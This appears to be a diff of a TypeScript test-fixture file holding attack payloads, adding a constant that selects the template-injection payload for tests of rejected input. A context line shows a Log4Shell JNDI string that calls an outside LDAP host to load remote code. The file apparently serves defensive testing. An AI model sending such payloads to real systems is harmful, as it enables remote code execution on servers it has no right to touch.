@@ -14,6 +14,9 @@ export const PAYLOADS: Readonly<Record<string, string>> = {
   Log4Shell: '${jndi:ldap://203.0.113.9:1389/a}',
 };
 
+/** For tests of what follows a denial: of all above the one that leaves the least doubt. */
+export const UNMISTAKABLE = PAYLOADS['template injection']!;
+
 /** How often the payload is percent-encoded beyond what its place asks for. */
 export type Encoding = 'plain' | 'double-encoded';
 
